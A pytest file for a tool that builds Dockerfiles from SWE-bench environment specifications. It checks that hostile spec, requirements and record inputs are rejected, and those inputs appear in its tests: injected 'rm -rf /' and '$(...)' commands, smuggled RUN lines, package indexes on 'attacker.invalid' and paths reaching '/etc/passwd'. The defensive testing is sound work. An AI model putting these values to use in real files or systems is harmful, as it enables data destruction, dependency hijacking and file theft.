"""`ci-eval import swe-bench` writes environment/Dockerfile from SWE-bench's specification of the
record's repo and version (issue 36 item 10): the vendored specs (flask checked against the pins
docs/tasks-beyond-python.md documents), a team's `--env-spec FILE`, `--wheels DIR`; the requirements
file read at the environment_setup_commit as SWE-bench's harness reads it; and the record, the spec
file and the repository's requirements file as hostile input (exit 2, one line, nothing written).
The image these Dockerfiles build is verified by tests/test_swe_bench_flask.py."""

from __future__ import annotations

import json
import re
from pathlib import Path

import swe_bench_env
from test_import_swe_bench_layouts import git, mirror, record

from ci_eval.importers.swe_bench_env import load_specs

DOCS = Path(__file__).parent.parent / "docs" / "tasks-beyond-python.md"
BASE_REQUIREMENTS = 'PyYAML==6.0 ; python_version >= "3.8"\n'
TEST_REQUIREMENTS = "# pinned\n-r base.txt\npytest>=7  # via -r test.in\n-e .\n\n"


def spec(**version) -> dict:
    entry = {"python": "3.12", "packages": "requirements.txt", "install": "python -m pip install -e .",
             "pip_packages": ["iniconfig==2.0.0"], **version}
    return {"repos": {"acme/calc": {"requirements_paths": ["requirements/gone.txt",
                                                           "requirements/test.txt"],
                                    "versions": {"1.0": entry}}}}


def calc_with_requirements(tmp_path: Path, files: dict[str, str] | None = None):
    """The acme/calc mirror with a requirements folder (an -r include) in a second commit, used as
    the records' environment_setup_commit."""
    bare, base = mirror(tmp_path)
    work = tmp_path / "calc-work"
    for rel, text in (files or {"requirements/test.txt": TEST_REQUIREMENTS,
                                "requirements/base.txt": BASE_REQUIREMENTS}).items():
        (work / rel).parent.mkdir(parents=True, exist_ok=True)
        (work / rel).write_text(text)
    git("-c", "user.name=t", "-c", "user.email=t@t", "add", "-A", cwd=work)
    git("-c", "user.name=t", "-c", "user.email=t@t", "commit", "-qm", "env", cwd=work)
    setup = git("rev-parse", "HEAD", cwd=work)
    git("push", "-q", str(bare), "HEAD:refs/heads/main", cwd=work)
    return bare, base, setup


def run_import(cli, repo_root, tmp_path, bare, instance: dict, *options, spec_data=None):
    source = tmp_path / "instances.jsonl"
    source.write_text(json.dumps(instance) + "\n")
    args = ["--mirror", f"acme/calc={bare}", *options]
    if spec_data is not None:
        spec_file = tmp_path / "specs.json"
        spec_file.write_text(spec_data if isinstance(spec_data, str) else json.dumps(spec_data))
        args += ["--env-spec", spec_file]
    return cli("import", "swe-bench", source, *args, "--json", cwd=repo_root,
               env={"CI_EVAL_UPSTREAM_CACHE": str(tmp_path / "cache")}, timeout=120)


def test_the_vendored_flask_spec_is_swe_benchs_and_gives_the_documented_pins():
    specs = load_specs()
    assert {version for repo, version in specs if repo == "pallets/flask"} == {
        "2.0", "2.1", "2.2", "2.3", "3.0", "3.1"}
    flask = specs[("pallets/flask", "2.3")]
    assert (flask.python, flask.packages, flask.requirements_paths) == (
        "3.11", "requirements.txt", ("requirements/dev.txt",))
    assert flask.pip_packages == swe_bench_env.PIP_PACKAGES
    assert specs[("pallets/flask", "2.0")].python == "3.9"
    assert specs[("psf/requests", "2.31")].packages == "pytest"
    # the docs' pins: pip_packages, then the test pins, all of them in what the image installs
    documented = re.search(r"need only part of it: Python 3.11\nwith\n\n```text\n(.*?)```",
                           DOCS.read_text(), re.S).group(1).split()
    installed = {pin.split(" ;")[0] for pin in swe_bench_env.REQUIREMENTS} | set(
        flask.pip_packages)
    assert documented and all(pin in installed for pin in documented), documented
    assert set(documented) == set(swe_bench_env.PINS)


def test_a_teams_spec_file_wins_over_the_vendored_entry_of_its_repo_and_version(tmp_path):
    own = tmp_path / "own.json"
    own.write_text(json.dumps({"repos": {"pallets/flask": {
        "requirements_paths": ["requirements/tests.txt"],
        "versions": {"2.3": {"python": "3.12", "packages": "requirements.txt"}}}}}))
    specs = load_specs(own)
    assert (specs[("pallets/flask", "2.3")].python, specs[("pallets/flask", "2.3")].source) == (
        "3.12", own)
    assert specs[("pallets/flask", "2.3")].requirements_paths == ("requirements/tests.txt",)
    assert specs[("pallets/flask", "3.0")].python == "3.11"  # the others stay


def test_an_env_spec_writes_the_dockerfile_from_the_setup_commits_requirements(cli, repo_root,
                                                                              tmp_path):
    bare, base, setup = calc_with_requirements(tmp_path)
    wheels = tmp_path / "wheels"
    wheels.mkdir()
    (wheels / "iniconfig-2.0.0-py3-none-any.whl").write_bytes(b"PK wheel")
    (wheels / "README").write_text("not a wheel: not copied")
    result = run_import(cli, repo_root, tmp_path, bare,
                        {**record(base), "environment_setup_commit": setup},
                        "--wheels", wheels, spec_data=spec())
    assert result.returncode == 0, result.stdout + result.stderr
    [item] = json.loads(result.stdout)["imported"]
    assert item["todo"] == []
    assert any(f"requirements/test.txt at {setup[:12]}" in w and "specs.json" in w
               for w in item["warnings"]), item
    task = repo_root / "tasks" / item["task"]
    environment = task / "environment"
    # the -r include's lines first, then the file's own; comments and `-e .` dropped
    assert (environment / "requirements.txt").read_text() == (
        'PyYAML==6.0 ; python_version >= "3.8"\npytest>=7\n')
    assert (environment / "pip-packages.txt").read_text() == "iniconfig==2.0.0\n"
    assert sorted(p.name for p in (environment / "wheels").iterdir()) == [
        "iniconfig-2.0.0-py3-none-any.whl"]
    dockerfile = (environment / "Dockerfile").read_text()
    pip = ("python -m pip install --no-cache-dir --disable-pip-version-check --no-index "
           "--find-links /tmp/ci-eval-env/wheels")
    assert dockerfile.split("\n", 3)[3] == (
        "FROM python:3.12-slim\nCOPY requirements.txt pip-packages.txt /tmp/ci-eval-env/\n"
        "COPY wheels /tmp/ci-eval-env/wheels\n"
        f"RUN {pip} -r /tmp/ci-eval-env/requirements.txt \\\n"
        f" && {pip} -r /tmp/ci-eval-env/pip-packages.txt \\\n && rm -rf /tmp/ci-eval-env\n")
    assert "CI-EVAL-PLACEHOLDER" not in (task / "checks.py").read_text()
    valid = cli("validate", cwd=repo_root, env={"CI_EVAL_UPSTREAM_CACHE": str(tmp_path / "cache")})
    assert valid.returncode == 0, valid.stdout + valid.stderr


def test_without_a_wheelhouse_the_image_installs_from_the_index(cli, repo_root, tmp_path):
    bare, base, _ = calc_with_requirements(tmp_path)
    result = run_import(cli, repo_root, tmp_path, bare, record(base),
                        spec_data=spec(packages="pytest 'PyYAML>=6'", pip_packages=[]))
    assert result.returncode == 0, result.stdout + result.stderr
    [item] = json.loads(result.stdout)["imported"]
    environment = repo_root / "tasks" / item["task"] / "environment"
    assert (environment / "requirements.txt").read_text() == "pytest\nPyYAML>=6\n"
    dockerfile = (environment / "Dockerfile").read_text()
    assert "--no-index" not in dockerfile and not (environment / "wheels").exists()
    assert ("RUN python -m pip install --no-cache-dir --disable-pip-version-check -r "
            "/tmp/ci-eval-env/requirements.txt \\\n && rm -rf /tmp/ci-eval-env\n") in dockerfile


def test_what_cannot_be_carried_is_a_todo(cli, repo_root, tmp_path):
    """No requirements file at the setup commit, a conda environment.yml, pre_install steps, no
    spec at all: the import writes what it can and names the rest; validate reports it."""
    bare, base, _ = calc_with_requirements(tmp_path, {"other.txt": "x\n"})
    cases = [
        (spec(), "environment/requirements.txt: the requirements SWE-bench installs first, from "
                 "requirements/gone.txt or requirements/test.txt at"),
        (spec(packages="environment.yml"), "conda environment.yml (not carried)"),
        (spec(pre_install=["sed -i 's/a/b/' setup.cfg"]), "pre_install steps"),
        ({"repos": {"acme/other": spec()["repos"]["acme/calc"]}},
         "or import again with --env-spec FILE holding SWE-bench's specification of acme/calc 1.0"),
    ]
    env = {"CI_EVAL_UPSTREAM_CACHE": str(tmp_path / "cache")}
    for number, (spec_data, said) in enumerate(cases):
        root = tmp_path / f"root-{number}"
        (root / "tasks").mkdir(parents=True)
        result = run_import(cli, root, tmp_path, bare, record(base), spec_data=spec_data)
        assert result.returncode == 0, result.stdout + result.stderr
        [item] = json.loads(result.stdout)["imported"]
        assert any(said in todo for todo in item["todo"]), (said, item)
        if number == 3:
            assert any("no SWE-bench environment specification of acme/calc 1.0" in w
                       for w in item["warnings"]), item
        assert "CI-EVAL-PLACEHOLDER" in (root / "tasks" / item["task"] / "checks.py").read_text()
        pending = cli("validate", cwd=root, env=env)
        assert pending.returncode != 0 and "CI-EVAL-PLACEHOLDER" in pending.stdout + pending.stderr


def assert_bad_input(result, *said: str) -> None:
    lines = result.stderr.strip().splitlines()
    assert result.returncode == 2 and len(lines) == 1, result.stdout + result.stderr
    assert "Traceback" not in result.stderr and all(s in lines[0] for s in said), (said, lines)


def test_a_hostile_spec_file_is_bad_input_naming_the_field(cli, repo_root, tmp_path):
    bare, base, _ = calc_with_requirements(tmp_path)
    field = "repos.acme/calc.versions.1.0"
    cases = [
        (spec(pip_packages=["pytest; rm -rf /"]), f"{field}.pip_packages[0]"),
        (spec(pip_packages=["iniconfig", "--index-url=http://attacker.invalid/simple"]),
         f"{field}.pip_packages[1]"),
        (spec(pip_packages=["evil @ https://attacker.invalid/evil.whl"]),
         f"{field}.pip_packages[0]"),
        (spec(pip_packages=["$(touch /tmp/pwned)"]), f"{field}.pip_packages[0]"),
        (spec(pip_packages=["pytest\nRUN touch /pwned"]), f"{field}.pip_packages[0]"),
        (spec(python="3.11-slim\nRUN touch /pwned"), f"{field}.python"),
        (spec(python="3.11\n"), f"{field}.python"),
        (spec(packages="pytest `id`"), f"{field}.packages[1]"),
        (spec(install=["x"]), f"{field}.install"),
        ({"repos": {"acme/calc": {"requirements_paths": ["../../etc/passwd"],
                                  "versions": {"1.0": {"python": "3.11"}}}}},
         "repos.acme/calc.requirements_paths[0]"),
        ({"repos": {"acme/calc": {"versions": {}}}}, "repos.acme/calc.versions"),
        ({"repos": {"acme/calc": {"versions": {"1.0\nRUN touch /pwned": {"python": "3.11"}}}}},
         "repos.acme/calc.versions: expected a version"),
        ({"repos": {"acme/calc": {"versions": {"1.0": {"python": "3.11",
                                                       "packages": "requirements.txt"}}}}},
         "names no requirements_paths"),
        ({"nothing": 1}, "repos"),
        ("{not json", "invalid JSON"),
    ]
    for spec_data, said in cases:
        result = run_import(cli, repo_root, tmp_path, bare, record(base), spec_data=spec_data)
        assert_bad_input(result, "specs.json", said)
        assert list((repo_root / "tasks").iterdir()) == []


def test_a_hostile_requirements_file_or_record_is_bad_input_naming_the_instance(cli, repo_root,
                                                                              tmp_path):
    instance = "line 1: acme__calc-7"
    for number, (text, said) in enumerate([
        ("--extra-index-url http://attacker.invalid/simple\n", "requirements/test.txt line 1"),
        ("pytest\nevil @ file:///etc/passwd\n", "requirements/test.txt line 2"),
        ("-r ../../../../etc/passwd\n", "expected -r FILE"),
        ("pytest ; $(id)\n", "requirements/test.txt line 1"),
    ]):
        folder = tmp_path / f"case-{number}"
        folder.mkdir()
        bare, base, setup = calc_with_requirements(folder, {"requirements/test.txt": text})
        result = run_import(cli, repo_root, folder, bare,
                            {**record(base), "environment_setup_commit": setup}, spec_data=spec())
        assert_bad_input(result, "instances.jsonl", instance, said)
        assert list((repo_root / "tasks").iterdir()) == []
    bare, base, _ = calc_with_requirements(tmp_path)
    for overrides, said in (({"version": 1}, f"{instance}: version: expected a string"),
                            ({"environment_setup_commit": "main; rm -rf /"},
                             f"{instance}: environment_setup_commit: expected a commit")):
        result = run_import(cli, repo_root, tmp_path, bare, {**record(base), **overrides},
                            spec_data=spec())
        assert_bad_input(result, "instances.jsonl", said)
    assert list((repo_root / "tasks").iterdir()) == []


def test_bad_wheels_and_env_spec_options_are_bad_input(cli, repo_root, tmp_path):
    bare, base, _ = calc_with_requirements(tmp_path)
    outside = tmp_path / "secret.whl"
    outside.write_bytes(b"secret")
    linked = tmp_path / "linked-wheels"
    linked.mkdir()
    (linked / "secret-1.0-py3-none-any.whl").symlink_to(outside)
    empty = tmp_path / "empty"
    empty.mkdir()
    for options, said in (
            (["--wheels", tmp_path / "nowhere"], "--wheels: no such folder"),
            (["--wheels", linked], "is a symlink"),
            (["--wheels", empty], "holds no wheel"),
            (["--env-spec", tmp_path / "nowhere.json"], "--env-spec: no such file")):
        result = run_import(cli, repo_root, tmp_path, bare, record(base), *options)
        assert_bad_input(result, said)
    for option in ("--wheels", "--env-spec"):
        other = cli("import", "harbor", tmp_path, option, tmp_path, cwd=repo_root)
        assert_bad_input(other, option, "only the swe-bench format")
    assert list((repo_root / "tasks").iterdir()) == []
